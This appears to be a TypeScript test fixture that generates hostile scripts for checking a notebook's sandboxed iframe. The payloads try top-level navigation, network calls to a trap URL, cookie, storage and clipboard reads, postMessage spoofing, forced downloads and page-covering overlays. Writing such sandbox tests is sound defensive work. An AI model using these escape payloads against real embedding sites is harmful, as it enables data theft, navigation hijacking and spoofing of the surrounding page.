/** Scripts of a trusted notebook that try to get out of their frame. They run; nothing else may come of it. */
import { form, type HostileCase, html, type Trap } from "./case.ts";

export function escapeCases({ url }: Trap): readonly HostileCase[] {
  const run = (name: string, code: string): HostileCase =>
    html(
      name,
      `<p>${name}</p><script>console.log('EXECUTED ${name}');try{${code}}catch(e){console.log('REFUSED ${name}')}</script>`,
    );
  return [
    run("open", `window.open('${url("open")}'); open('about:blank')?.document.write('x')`),
    run("top-location", `top.location='${url("top-location")}'`),
    run("top-replace", `top.location.replace('${url("top-replace")}')`),
    run("parent-document", "parent.document.body.innerHTML=''"),
    run("own-location", `setTimeout(()=>{location.href='${url("own-location")}?secret'},50)`),
    run(
      "own-location-data",
      "setTimeout(()=>{location.href='data:text/html,<script>console.log(1)<\\/script>'},50)",
    ),
    run("own-location-api", "setTimeout(()=>{location.href='/api/status?hostile'},50)"),
    run("own-reload", "setTimeout(()=>location.reload(),50)"),
    run("fetch", `fetch('${url("fetch")}').catch(()=>{});fetch('/api/status?hostile').catch(()=>{})`),
    run("xhr", `const x=new XMLHttpRequest();x.open('POST','${url("xhr")}');x.send('x')`),
    run("websocket", `new WebSocket('${url("websocket").replace("http", "ws")}')`),
    run("eventsource", `new EventSource('${url("eventsource")}')`),
    run("beacon", `navigator.sendBeacon('${url("beacon")}','x')`),
    run("image", `new Image().src='${url("image")}'`),
    run(
      "css",
      `document.head.append(Object.assign(document.createElement('style'),{textContent:'@import "${url("css")}";body{background:url(${url("css")})}'}))`,
    ),
    run("font", `new FontFace('x','url(${url("font")})').load().catch(()=>{})`),
    run(
      "script-tag",
      `document.head.append(Object.assign(document.createElement('script'),{src:'${url("script-tag")}'}))`,
    ),
    run("dynamic-import", `import('${url("dynamic-import")}').catch(()=>{})`),
    run(
      "worker",
      `new Worker(URL.createObjectURL(new Blob(["fetch('${url("worker")}')"])));new Worker('${url("worker")}')`,
    ),
    run("service-worker", `navigator.serviceWorker.register('${url("service-worker")}').catch(()=>{})`),
    run(
      "iframe",
      `for(const src of ['${url("iframe")}','/api/status?hostile','/'])document.body.append(Object.assign(document.createElement('iframe'),{src}))`,
    ),
    run(
      "iframe-srcdoc",
      `document.body.append(Object.assign(document.createElement('iframe'),{srcdoc:"<img src='${url("iframe-srcdoc")}'><script>fetch('${url("iframe-srcdoc")}');top.location='${url("iframe-srcdoc")}'<\\/script>"}))`,
    ),
    run(
      "object",
      `document.body.append(Object.assign(document.createElement('object'),{data:'${url("object")}'}))`,
    ),
    run(
      "form",
      `const f=Object.assign(document.createElement('form'),{action:'${url("form")}',method:'post',target:'_top'});document.body.append(f);f.submit()`,
    ),
    run(
      "meta-refresh",
      `document.head.append(Object.assign(document.createElement('meta'),{httpEquiv:'refresh',content:'0;url=${url("meta-refresh")}'}))`,
    ),
    run(
      "prefetch",
      `for(const rel of ['prefetch','preload','prerender','stylesheet','icon'])document.head.append(Object.assign(document.createElement('link'),{rel,href:'${url("prefetch")}',as:'image'}))`,
    ),
    run(
      "base",
      `document.head.append(Object.assign(document.createElement('base'),{href:'${url("base")}/'}));new Image().src='x.png'`,
    ),
    run(
      "link-click",
      `const a=Object.assign(document.createElement('a'),{href:'${url("link-click")}',target:'_top',ping:'${url("link-click")}'});document.body.append(a);a.click()`,
    ),
    run(
      "download",
      "const a=Object.assign(document.createElement('a'),{href:'data:text/plain,x',download:'evil.exe'});document.body.append(a);a.click()",
    ),
    run("dialogs", "alert(1);confirm(1);prompt(1);print()"),
    run("storage", "console.log('EXECUTED got '+document.cookie+localStorage.length)"),
    run("spoof-hello", "for(let i=0;i<50;i++)parent.postMessage({loopbook:'frame'},'*')"),
    run(
      "spoof-messages",
      "for(const type of ['leave','drawn','failed'])parent.postMessage({type,message:'x'},'*');parent.postMessage({type:'link',address:'javascript:1'},'*')",
    ),
    run(
      "spoof-siblings",
      "for(let i=0;i<parent.frames.length;i++)parent.frames[i].postMessage({loopbook:'begin',code:'console.log(\\'EXECUTED in-sibling\\');var loopbookFrame={start(){}}'},'*')",
    ),
    run("spoof-top", "top.postMessage('x'.repeat(1e6),'*')"),
    run("huge", "document.body.style.height='100000000px'"),
    run(
      "growing",
      "setInterval(()=>{document.body.style.height=document.documentElement.clientHeight+500+'px'},20)",
    ),
    run(
      "covering",
      "document.body.innerHTML='<div style=\"position:fixed;inset:-9999px;background:red;z-index:2147483647\">COVER</div>'",
    ),
    run(
      "fullscreen",
      "document.documentElement.requestFullscreen().catch(()=>{});document.body.requestPointerLock?.()",
    ),
    run("focus", "window.focus();const i=document.createElement('input');document.body.append(i);i.focus()"),
    run("history", "history.pushState(0,'','/x');history.back();history.go(-3)"),
    run("throwing", "throw new Error('<img src=x onerror=alert(1)>')"),
    run(
      "clipboard",
      "navigator.clipboard?.readText().then(t=>console.log('EXECUTED clip '+t)).catch(()=>{})",
    ),
    run(
      "devices",
      "navigator.geolocation?.getCurrentPosition(()=>{});navigator.mediaDevices?.getUserMedia({video:true}).catch(()=>{});Notification?.requestPermission?.()",
    ),
    run("peer", `new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:9'}]}).createDataChannel('x')`),
    form(
      "javascript-escape",
      "application/javascript",
      `console.log('EXECUTED javascript-escape');element.innerHTML='<img src="${url("javascript-escape")}">';top.location='${url("javascript-escape")}'`,
    ),
  ];
}
